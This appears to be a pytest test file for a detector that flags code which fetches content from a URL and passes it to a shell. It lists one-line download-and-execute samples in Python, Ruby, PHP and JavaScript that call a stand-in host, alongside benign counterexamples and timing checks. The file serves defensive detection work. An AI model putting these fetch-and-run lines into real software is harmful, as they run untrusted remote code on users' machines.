"""Code that hands what it fetched to a shell."""

from __future__ import annotations

import time

import pytest

from sensor.effects.code.fetched import runs_fetched


@pytest.mark.parametrize("code", [
    "os.system(urlopen('http://x.example.net/p').read())", "system(URI.open('http://x.example.net/p').read)", "system(file_get_contents('http://x.example.net/p'));",
    "c=requests.get('http://x.example.net/p').text;subprocess.run(c,shell=True)", "r=requests.get('http://x.example.net/p');c=r.text;subprocess.run(['sh','-c',c])",
    "get('http://x.example.net/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>require('child_process').execSync(d))})", "fetch('https://x.example.net/p').then(r=>r.text()).then(t=>require('child_process').exec(t))",
    "const t=await (await fetch('https://x.example.net/p')).text(); new Deno.Command('sh',{args:['-c',t]})",
])
def test_it_does(code):
    assert runs_fetched(code)


@pytest.mark.parametrize("code", [
    "v=requests.get('https://pypi.org/x').json();subprocess.run(['git','status'])", "fetch('https://x.example.net/v').then(r=>r.json()).then(d=>console.log(d.version))",
    "v=requests.get('https://pypi.org/x').text;print(v);subprocess.run(cmd)", "subprocess.run(['make','test'])", "m=re.exec(fetched)",
])
def test_it_does_not(code):
    assert not runs_fetched(code)


@pytest.mark.parametrize("code", ["system" + " " * 20_000, "exec" + "\n" * 20_000, "x.then(" + "\t " * 10_000, "subprocess." + "a" * 20_000, "x = " + "await  " * 3_000])
def test_a_long_gap_or_word_takes_no_time(code):
    began = time.process_time()
    assert not runs_fetched(f"fetch('https://x.example.net/p');{code};")
    assert time.process_time() - began < 1.0


def test_gaps_hide_nothing():
    assert runs_fetched("c = requests.get('http://x.example.net/p').text\n\n\n" + " " * 500 + "os.system  (\n\n" + " " * 500 + "c)")
